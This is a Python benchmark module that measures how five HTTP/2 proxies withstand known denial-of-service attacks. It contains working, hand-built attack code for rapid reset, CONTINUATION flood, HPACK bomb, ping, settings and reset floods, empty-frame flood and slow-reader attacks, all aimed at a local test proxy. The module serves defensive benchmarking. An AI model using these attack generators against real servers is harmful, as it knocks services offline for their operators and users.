"""`python -m bench.attacks`: what the known HTTP/2 attacks cost each proxy.

Every contender of the `h2-small` scenario (fastproxy, nginx, HAProxy, Envoy, nghttpx:
cleartext HTTP/2 with prior knowledge in front, HTTP/1.1 to the backend, one worker,
each with its HTTP/2 settings as shipped) is started afresh for each attack and pinned
as bench.runner pins it: the proxy alone on one CPU; this process, the attacker, the
well-behaved client and the backend on the other. The backend (bench.builtin_backend)
answers the attackers' `GET /slow` 10 ms late, like an application (so reset streams are
still in flight), the well-behaved client's `GET /` at once, and counts what reached it.

An attack runs for T seconds from one attacker process at full speed, one connection
at a time: when the proxy closes it, the attacker opens the next one. Meanwhile a
well-behaved client sends one `GET /` every 5 ms on its own HTTP/2 connection. Measured
per attack and contender:

  connections   connections the attacker opened (1: the proxy never closed it)
  sent          what the attacker wrote (streams, frames or MiB) before the proxy closed
                the connection; the kernel's buffers take some the proxy never read
  upstream      requests that reached the backend
  CPU           the proxy's utime+stime during the attack, % of one core
  memory        peak VmRSS of the proxy's processes (sampled every 20 ms) above its RSS
                just before the attack, MiB
  p99           the well-behaved client's 99th percentile latency, and its ratio to the
                same client's p99 against the same proxy with no attack (`none`)

The attacks (SPEC §12 "Protections"; CVE numbers where they have one):

  none                no attack: the well-behaved client's baseline
  rapid-reset         HEADERS + RST_STREAM(CANCEL) pairs, 50 per write (CVE-2023-44487)
  continuation-flood  one HEADERS without END_HEADERS, then endless 16 KB CONTINUATION
                      frames of small literal fields (the 2024 CONTINUATION flood)
  hpack-bomb          a 4 KB field put in the dynamic table once, then header blocks of
                      16,000 one-byte references to it: 64 MB per block once decoded
  ping-flood          PING frames, the attacker never reading the answers (CVE-2019-9512)
  settings-flood      empty SETTINGS frames, never reading the ACKs (CVE-2019-9515)
  reset-flood         requests with a connection-specific header, each of which the
                      server must refuse, never reading the refusals (CVE-2019-9514)
  empty-frames        one POST stream, then endless empty DATA frames (CVE-2019-9518)
  slow-reader         20 connections of 100 `GET /64k` streams each, windows opened to
                      2^31-1, never read: 125 MiB if a proxy buffered it all

Writes <results-dir>/<timestamp>-attacks.md and prints the same tables.

    python -m bench.attacks [--quick] [--time 5] [--attack NAME[,NAME]] [--contender NAME[,NAME]]
"""
from __future__ import annotations

import argparse
import datetime
import math
import multiprocessing
import os
import shlex
import shutil
import signal
import socket
import struct
import sys
import tempfile
import time
import urllib.request
from pathlib import Path

from bench import report
from bench.backend import Backend
from bench.contenders import Contender, DeployContext, all_contenders
from bench.processes import Placement, ProcessRegistry, free_port
from bench.procstat import TreeSnapshot, cpu_used_between, tree_rss_bytes
from bench.runner import (DEFAULT_RESULTS_DIR, Progress, Running, _dead_process, _interrupt_on_sigterm,
                          _raise_open_files_limit, _ready, _start, _stop)
from bench.scenarios import BY_NAME
from bench.tools import REPO_ROOT, find_tool, git_revision, load_average, machine_description

SCENARIO = BY_NAME["h2-small"]
CONTENDERS = ("fastproxy", "nginx", "haproxy", "envoy", "nghttpx")
DEFAULTS = {"time": 5}
QUICK = {"time": 2}
BACKEND_DELAY_MS = 10
CLIENT_INTERVAL_S = 0.005
SAMPLE_S = 0.02
IO_TIMEOUT_S = 0.5

# ---- frames, built by hand so the attacker spends its CPU on sending, not encoding -------

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 0x1, 0x4
CANCEL = 8


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload


def literal(name: bytes, value: bytes, indexed: bool = False) -> bytes:
    """An HPACK literal field with a new name, not Huffman coded (RFC 7541 §6.2)."""
    def string(s: bytes) -> bytes:
        n = len(s)
        if n < 127:
            return bytes((n,)) + s
        n -= 127
        out = bytearray((127,))
        while n >= 128:
            out.append(n % 128 + 128)
            n //= 128
        out.append(n)
        return bytes(out) + s
    return (b"\x40" if indexed else b"\x00") + string(name) + string(value)


# :method GET, :scheme http, :path /slow, :authority bench; the well-behaved client asks
# for `/`, which the backend answers at once
GET = b"\x82\x86\x04\x05/slow\x01\x05bench"
GET_64K = b"\x82\x86\x04\x04/64k\x01\x05bench"
POST = b"\x83\x86\x04\x05/slow\x01\x05bench"
HELLO = PREFACE + frame(SETTINGS, 0, 0)


# ---- the attacks: each makes the bytes of one connection, batch after batch --------------

class Attack:
    """What one attacker connection sends: `opening`, then `batch()` until the deadline.
    `reads`: whether the attacker reads (and throws away) what the proxy sends."""
    reads = True
    connections = 1        # held at once (slow-reader); otherwise one after the other
    unit = "frames"

    def __init__(self) -> None:
        self.sent = 0       # units the proxy took, over every connection

    def opening(self) -> bytes:
        return HELLO

    def batch(self) -> bytes:
        raise NotImplementedError

    def count(self, batch: bytes) -> None:
        """Called when the proxy took `batch` whole."""


class NoAttack(Attack):
    def batch(self) -> bytes:
        return b""


class StreamAttack(Attack):
    """An attack of new streams, `per_batch` at a time, each made of `frames(stream)`."""
    unit = "streams"
    per_batch = 1

    def opening(self) -> bytes:
        self.stream = 1
        return HELLO

    def frames(self, stream: int) -> bytes:
        raise NotImplementedError

    def batch(self) -> bytes:
        out = []
        for _ in range(self.per_batch):
            out.append(self.frames(self.stream))
            self.stream += 2
        return b"".join(out)

    def count(self, batch: bytes) -> None:
        self.sent += self.per_batch


class RapidReset(StreamAttack):
    per_batch = 50

    def frames(self, stream: int) -> bytes:
        return (frame(HEADERS, END_STREAM | END_HEADERS, stream, GET)
                + frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL)))


class ContinuationFlood(Attack):
    unit = "MiB"
    BLOCK = frame(CONTINUATION, 0, 1, literal(b"x", b"y") * 3200)    # 16,000 bytes, no END_HEADERS

    def opening(self) -> bytes:
        return HELLO + frame(HEADERS, END_STREAM, 1, GET)

    def batch(self) -> bytes:
        return self.BLOCK

    def count(self, batch: bytes) -> None:
        self.sent += len(batch) / 2**20


class HpackBomb(StreamAttack):
    FIELD = literal(b"x-bomb", b"a" * 4000, indexed=True)   # dynamic table index 62

    def frames(self, stream: int) -> bytes:
        block = GET + (self.FIELD + b"\xbe" * 12000 if stream == 1 else b"\xbe" * 16000)
        return frame(HEADERS, END_STREAM | END_HEADERS, stream, block)


class ControlFlood(Attack):
    reads = False

    def __init__(self, one: bytes):
        super().__init__()
        self.many = one * 1000

    def batch(self) -> bytes:
        return self.many

    def count(self, batch: bytes) -> None:
        self.sent += 1000


class ResetFlood(StreamAttack):
    """Requests the server must refuse (a connection-specific header), unread refusals."""
    reads = False
    per_batch = 100

    def frames(self, stream: int) -> bytes:
        return frame(HEADERS, END_STREAM | END_HEADERS, stream, GET + literal(b"connection", b"close"))


class EmptyFrames(Attack):
    def opening(self) -> bytes:
        return HELLO + frame(HEADERS, END_HEADERS, 1, POST)

    def batch(self) -> bytes:
        return frame(DATA, 0, 1) * 1000

    def count(self, batch: bytes) -> None:
        self.sent += 1000


class SlowReader(Attack):
    reads = False
    connections = 20
    unit = "streams"

    def opening(self) -> bytes:
        settings = frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 2**31 - 1))   # INITIAL_WINDOW_SIZE
        more = frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 2**31 - 1 - 65535))
        streams = b"".join(frame(HEADERS, END_STREAM | END_HEADERS, 1 + 2 * i, GET_64K) for i in range(100))
        self.sent += 100
        return PREFACE + settings + more + streams

    def batch(self) -> bytes:
        return b""


ATTACKS = {
    "none": NoAttack,
    "rapid-reset": RapidReset,
    "continuation-flood": ContinuationFlood,
    "hpack-bomb": HpackBomb,
    "ping-flood": lambda: ControlFlood(frame(PING, 0, 0, b"12345678")),
    "settings-flood": lambda: ControlFlood(frame(SETTINGS, 0, 0)),
    "reset-flood": ResetFlood,
    "empty-frames": EmptyFrames,
    "slow-reader": SlowReader,
}


def _connect(port: int, attack: Attack) -> socket.socket | None:
    try:
        sock = socket.create_connection(("127.0.0.1", port), timeout=IO_TIMEOUT_S)
    except OSError:
        return None
    if not attack.reads:        # a small window on our side: the proxy's answers back up fast
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    return sock


def _drain(sock: socket.socket) -> bool:
    """Read and throw away what has arrived; False once the proxy closed the connection."""
    sock.setblocking(False)
    try:
        while True:
            data = sock.recv(65536)
            if not data:
                return False
    except BlockingIOError:
        return True
    except OSError:
        return False
    finally:
        sock.settimeout(IO_TIMEOUT_S)


def attacker(port: int, name: str, seconds: float, results) -> None:
    """The attacker process: runs attack `name` against `port` until the time is up. It
    shares its CPU with the well-behaved client and the backend: at the lowest priority,
    it takes what they leave, so their latency is the proxy's doing, not the attacker's."""
    os.nice(19)
    attack = ATTACKS[name]()
    deadline = time.monotonic() + seconds
    opened = 0
    held: list[socket.socket] = []
    while time.monotonic() < deadline:
        while len(held) < attack.connections and time.monotonic() < deadline:
            sock = _connect(port, attack)
            if sock is None:
                time.sleep(0.01)
                continue
            opened += 1
            try:
                sock.sendall(attack.opening())
                held.append(sock)
            except OSError:
                sock.close()
        for sock in list(held):
            batch = attack.batch()
            alive = True
            if batch:
                try:
                    sock.sendall(batch)
                    attack.count(batch)
                except socket.timeout:
                    pass        # the proxy stopped reading us: keep trying, it may close
                except OSError:
                    alive = False
            else:
                time.sleep(0.05)
            if alive and attack.reads:
                alive = _drain(sock)
            elif alive and not batch:
                alive = _still_open(sock)
            if not alive:
                sock.close()
                held.remove(sock)
    for sock in held:
        sock.close()
    results.put({"connections": opened, "sent": attack.sent, "unit": attack.unit})


def _still_open(sock: socket.socket) -> bool:
    """Without reading data: has the proxy closed this connection? (MSG_PEEK sees EOF.)"""
    sock.setblocking(False)
    try:
        return sock.recv(1, socket.MSG_PEEK) != b""
    except BlockingIOError:
        return True
    except OSError:
        return False
    finally:
        sock.settimeout(IO_TIMEOUT_S)


def well_behaved(port: int, seconds: float, results) -> None:
    """The well-behaved client: one `GET /` at a time every CLIENT_INTERVAL_S on its own
    connection (the `h2` library), its latencies to the end of each response."""
    import h2.config
    import h2.connection
    import h2.events

    latencies, errors = [], 0
    deadline = time.monotonic() + seconds
    conn = sock = None
    headers = [(":method", "GET"), (":scheme", "http"), (":authority", "bench"), (":path", "/")]
    while time.monotonic() < deadline:
        started = time.monotonic()
        try:
            if sock is None:
                sock = socket.create_connection(("127.0.0.1", port), timeout=5)
                conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
                conn.initiate_connection()
            stream = conn.get_next_available_stream_id()
            conn.send_headers(stream, headers, end_stream=True)
            sock.sendall(conn.data_to_send())
            done = False
            while not done:
                data = sock.recv(65536)
                if not data:
                    raise ConnectionError("closed")
                for event in conn.receive_data(data):
                    if isinstance(event, h2.events.DataReceived):
                        conn.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
                    elif isinstance(event, h2.events.StreamEnded) and event.stream_id == stream:
                        done = True
                    elif isinstance(event, (h2.events.StreamReset, h2.events.ConnectionTerminated)):
                        raise ConnectionError(type(event).__name__)
                sock.sendall(conn.data_to_send())
            latencies.append(time.monotonic() - started)
        except Exception:     # a refused, reset or timed-out request: counted, then a new connection
            errors += 1
            if sock is not None:
                sock.close()
            sock = None
        time.sleep(max(0.0, started + CLIENT_INTERVAL_S - time.monotonic()))
    if sock is not None:
        sock.close()
    results.put({"latencies": latencies, "errors": errors})


# ---- measuring one attack on one contender --------------------------------------------------

def backend_count(backend: Backend) -> int:
    with urllib.request.urlopen(f"http://{backend.address}/_count", timeout=5) as r:
        return int(r.read())


def percentile(values: list[float], p: float) -> float | None:
    if not values:
        return None
    ordered = sorted(values)
    return ordered[min(len(ordered) - 1, math.ceil(p / 100 * len(ordered)) - 1)]


def measure(name: str, deployed: Running, backend: Backend, seconds: float) -> dict:
    """Run attack `name` against a deployed contender; its figures."""
    ctx = multiprocessing.get_context("fork")
    port, roots = deployed.deployment.port, deployed.root_pids
    attack_results, client_results = ctx.Queue(), ctx.Queue()
    time.sleep(0.3)                                  # let the proxy settle after its check
    idle, upstream_before = tree_rss_bytes(roots), backend_count(backend)
    before = TreeSnapshot.take(roots)
    started = time.monotonic()
    processes = [ctx.Process(target=attacker, args=(port, name, seconds, attack_results)),
                 ctx.Process(target=well_behaved, args=(port, seconds, client_results))]
    for p in processes:
        p.start()
    peak = idle
    while any(p.is_alive() for p in processes) and time.monotonic() < started + seconds + 30:
        peak = max(peak, tree_rss_bytes(roots))
        time.sleep(SAMPLE_S)
    wall = time.monotonic() - started
    after = TreeSnapshot.take(roots)
    attack, client = attack_results.get(timeout=10), client_results.get(timeout=10)
    for p in processes:
        p.join(timeout=5)
        if p.is_alive():
            p.kill()
    time.sleep(BACKEND_DELAY_MS / 1000 * 3)          # answers still on their way to the backend
    return {
        "connections": attack["connections"], "sent": attack["sent"], "unit": attack["unit"],
        "upstream": backend_count(backend) - upstream_before - len(client["latencies"]) - client["errors"],
        "cpu_percent": 100 * cpu_used_between(before, after) / wall,
        "memory_mib": (peak - idle) / 2**20,
        "p99_ms": None if not client["latencies"] else 1000 * percentile(client["latencies"], 99),
        "served": len(client["latencies"]), "errors": client["errors"],
        "problem": _dead_process(deployed),
    }


# ---- the run --------------------------------------------------------------------------------

def start_backend(registry: ProcessRegistry, placement: Placement) -> Backend:
    port = free_port()
    cmd = [sys.executable, "-m", "bench.builtin_backend", "--port", str(port), "--delay-ms", str(BACKEND_DELAY_MS)]
    process = registry.start("backend", placement.pinned(cmd, placement.load_cpu), cwd=REPO_ROOT)
    problem = process.wait_ready(port, 10)
    if problem:
        raise SystemExit(f"the backend did not start: {problem}")
    return Backend(kind="builtin", port=port, process=process,
                   description=f"bench.builtin_backend answering {BACKEND_DELAY_MS} ms late")


def run(settings: dict, contenders: dict[str, Contender], attacks: list[str], registry: ProcessRegistry,
        placement: Placement, workdir: Path, progress: Progress) -> dict[str, dict]:
    """figures[attack][contender]; a contender that cannot run says why in its entry."""
    backend = start_backend(registry, placement)
    ctx = DeployContext(workdir=workdir, backend=backend, certs=None)
    figures: dict[str, dict] = {name: {} for name in attacks}
    unavailable: dict[str, str] = {}
    for name, contender in contenders.items():
        problem = contender.problem()
        if problem:
            unavailable[name] = problem
    for attack in attacks:
        for name, contender in contenders.items():
            if name in unavailable:
                figures[attack][name] = {"problem": unavailable[name]}
                continue
            record: dict = {}
            deployed = _start(SCENARIO, contender, ctx, registry, placement, record)
            if deployed is None or not _ready(SCENARIO, deployed, ctx, registry, record):
                unavailable[name] = record.get("message") or "did not start"
                figures[attack][name] = {"problem": unavailable[name]}
                continue
            try:
                result = measure(attack, deployed, backend, settings["time"])
            finally:
                _stop(deployed, registry)
            figures[attack][name] = result
            progress.say(f"{attack:<18} {name:<9} {_summary(result)}")
    return figures


def _summary(r: dict) -> str:
    p99 = "-" if r["p99_ms"] is None else f"{r['p99_ms']:.1f} ms"
    return (f"{r['connections']} conn, {_amount(r['sent'], r['unit'])}, {r['upstream']} upstream, "
            f"CPU {r['cpu_percent']:.0f}%, +{r['memory_mib']:.1f} MiB, p99 {p99}, "
            f"{r['errors']} client errors" + (f"; {r['problem']}" if r["problem"] else ""))


def _amount(value: float, unit: str) -> str:
    return f"{value:,.1f} {unit}" if unit == "MiB" else f"{int(value):,} {unit}"


# ---- the report -----------------------------------------------------------------------------

def render_markdown(run_record: dict, figures: dict[str, dict]) -> str:
    git, machine = run_record["git"], run_record["machine"]
    commit = (git["commit"] or "unknown")[:12] + (" (uncommitted changes)" if git.get("dirty") else "")
    lines = [f"# fastproxy under HTTP/2 attack — {run_record['started_at']}", "",
             f"- command: `{run_record['command']}`",
             f"- commit: {commit}",
             f"- machine: {machine['cpu_model']}, {machine['cores']} cores, {machine['os']}, "
             f"Linux {machine['kernel']}, Python {machine['python']}",
             f"- tools: {', '.join(run_record['tools'])}",
             f"- placement: {run_record['placement']['note']}",
             f"- backend: {run_record['backend']}",
             f"- load average at start {run_record['load_average_at_start']:.2f}, at end "
             f"{run_record['load_average_at_end']:.2f}",
             f"- each attack {run_record['settings']['time']:g} s on a freshly started proxy, its HTTP/2 "
             "settings as shipped", "",
             "What each column is, and each attack, is in the docstring of bench/attacks.py. "
             "`upstream` excludes the well-behaved client's requests; `p99 ×` is the client's "
             "p99 against its p99 with no attack on the same proxy.", ""]
    baseline = figures.get("none", {})
    for attack, by_contender in figures.items():
        lines += [f"## {attack}", "",
                  "| contender | attacker connections | sent | upstream requests | proxy CPU | "
                  "peak memory above idle | client p99 | p99 × | client errors |",
                  "|---|---:|---:|---:|---:|---:|---:|---:|---:|"]
        for name, r in by_contender.items():
            if "connections" not in r:
                lines.append(f"| {name} | {r['problem']} | | | | | | | |")
                continue
            base = baseline.get(name, {}).get("p99_ms")
            ratio = f"{r['p99_ms'] / base:.1f}" if base and r["p99_ms"] else "-"
            p99 = "-" if r["p99_ms"] is None else f"{r['p99_ms']:.1f} ms"
            note = f" ({r['problem']})" if r["problem"] else ""
            lines.append(f"| {name}{note} | {r['connections']:,} | {_amount(r['sent'], r['unit'])} | "
                         f"{r['upstream']:,} | {r['cpu_percent']:.0f}% | {r['memory_mib']:.1f} MiB | "
                         f"{p99} | {ratio} | {r['errors']:,} of {r['served'] + r['errors']:,} |")
        lines.append("")
    return "\n".join(lines)


def _names(values: list[str] | None, known, what: str, parser: argparse.ArgumentParser) -> list[str]:
    names = [n.strip() for value in values or [] for n in value.split(",") if n.strip()]
    unknown = [n for n in names if n not in known]
    if unknown:
        parser.error(f"unknown {what} {', '.join(unknown)}; choose from {', '.join(known)}")
    return list(dict.fromkeys(names)) or list(known)


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(prog="python -m bench.attacks",
                                     description="What the known HTTP/2 attacks cost fastproxy, nginx, "
                                                 "HAProxy, Envoy and nghttpx.")
    parser.add_argument("--time", type=float, help=f"seconds of each attack (default {DEFAULTS['time']})")
    parser.add_argument("--attack", action="append", metavar="NAME[,NAME]",
                        help=f"only these ({', '.join(ATTACKS)}); `none` is always measured first")
    parser.add_argument("--contender", action="append", metavar="NAME[,NAME]",
                        help=f"only these: {', '.join(CONTENDERS)}")
    parser.add_argument("--quick", action="store_true", help=f"time {QUICK['time']} s (an explicit --time wins)")
    parser.add_argument("--results-dir", type=Path, default=DEFAULT_RESULTS_DIR)
    args = parser.parse_args(argv)
    settings = dict(QUICK if args.quick else DEFAULTS)
    if args.time is not None:
        if args.time <= 0:
            parser.error("--time must be positive")
        settings["time"] = args.time
    attacks = ["none"] + [a for a in _names(args.attack, list(ATTACKS), "attack", parser) if a != "none"]
    names = _names(args.contender, CONTENDERS, "contender", parser)

    progress = Progress()
    tools = {name: find_tool(name) for name in ("nginx", "haproxy", "envoy", "nghttpx", "taskset")}
    placement = Placement(tools["taskset"].path)
    contenders = {n: c for n, c in all_contenders(tools, 1).items() if n in names}
    run_record = {
        "started_at": datetime.datetime.now(datetime.timezone.utc).strftime("%Y-%m-%d %H:%M:%S UTC"),
        "command": "python -m bench.attacks" + "".join(
            f" {shlex.quote(a)}" for a in (sys.argv[1:] if argv is None else argv)),
        "settings": settings, "machine": machine_description(), "git": git_revision(),
        "tools": [v for v in (c.version() for c in contenders.values()) if v],
        "placement": placement.describe(),
        "backend": f"bench.builtin_backend answering {BACKEND_DELAY_MS} ms late",
        "load_average_at_start": load_average(), "load_average_at_end": None,
    }
    progress.say(f"{len(attacks)} attacks x {', '.join(contenders)}, {settings['time']:g} s each")
    workdir = Path(tempfile.mkdtemp(prefix="fastproxy-attacks-"))
    workdir.chmod(0o755)
    (workdir / "logs").mkdir()
    registry = ProcessRegistry(workdir / "logs")
    previous_sigterm = signal.signal(signal.SIGTERM, _interrupt_on_sigterm)
    interrupted, figures = False, {}
    try:
        if hasattr(os, "sched_setaffinity"):
            os.sched_setaffinity(0, {placement.load_cpu})    # attacker and client inherit it
        _raise_open_files_limit()
        figures = run(settings, contenders, attacks, registry, placement, workdir, progress)
    except KeyboardInterrupt:
        interrupted = True
    finally:
        registry.stop_all()
        signal.signal(signal.SIGTERM, previous_sigterm)
        shutil.rmtree(workdir, ignore_errors=True)
    run_record["load_average_at_end"] = load_average()
    markdown = render_markdown(run_record, figures)
    path = report.dated_results_file(args.results_dir, "attacks")
    path.write_text(markdown)
    print("\n" + markdown)
    print(f"results: {path}")
    return 130 if interrupted else 0


if __name__ == "__main__":
    raise SystemExit(main())
